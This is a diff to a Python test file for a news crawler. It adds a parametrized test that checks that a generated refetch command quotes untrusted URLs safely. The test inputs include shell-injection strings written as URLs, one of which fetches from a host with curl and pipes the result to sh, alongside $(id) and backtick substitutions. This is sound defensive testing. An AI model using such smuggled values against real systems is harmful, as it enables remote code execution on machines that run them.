@@ -2,13 +2,19 @@
 
 from __future__ import annotations
 
+import shlex
+from datetime import UTC, datetime
 from typing import Any
 
 import pytest
 from pymongo.database import Database
+from scrapy.settings import Settings
 
 from newscrawler.frontier.inspection import NoSuchRequestError, dead_letters, discard, hosts
+from newscrawler.items import Rejection
 from newscrawler.operations.jobs import NoSuchJobError, cancel
+from newscrawler.operations.quarantine import refetch_command
+from newscrawler.program import program
 from newscrawler.scrapyd.jobs import AttemptResult, JobQueue
 from tests.support.frontier_store import stored_crawl_job
 
@@ -35,6 +41,32 @@ def test_a_dead_letter_that_is_given_up_is_removed_and_nothing_else_is(prepared:
     assert discard(prepared, [letter.id, *others]) == 1
     assert list(dead_letters(prepared)) == []
     assert prepared["frontier"].count_documents({}) == 3
+
+
+@pytest.mark.parametrize("stage", ["discovery", "comments", "fetch", "extraction"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://a.example;curl${IFS}b.example|sh/feed",
+        "https://$(id).a.example/feed",
+        "https://`id`.a.example:80/",
+        "https://[not an address/feed",
+        "https://a.example'/feed",
+        "https://a.example/\x1b[2J",
+    ],
+)
+def test_a_command_that_is_offered_for_an_address_of_strangers_runs_no_other(url: str, stage: Any) -> None:
+    settings = Settings()
+    settings.setmodule("newscrawler.settings")
+    refused = Rejection(url=url, stage=stage, reason="no list", retrieved=datetime(2026, 3, 1, tzinfo=UTC))
+    command = refetch_command(refused, settings)
+    words = list(shlex.shlex(command, posix=True, punctuation_chars=True))
+    assert shlex.split(command)[:-1] == [program(), "crawl", "outlet", "-a"]
+    assert len(shlex.split(command)) == 5
+    assert command.isprintable()
+    assert not any(set(word) <= set("();<>|&") for word in words)
+    # What a shell would put in place of a text stands between quotation marks, where it puts nothing.
+    assert not any(sign in part for part in command.split("'")[::2] for sign in "$`")
 
 
 def test_a_pending_job_is_cancelled_at_once(prepared: Documents) -> None:
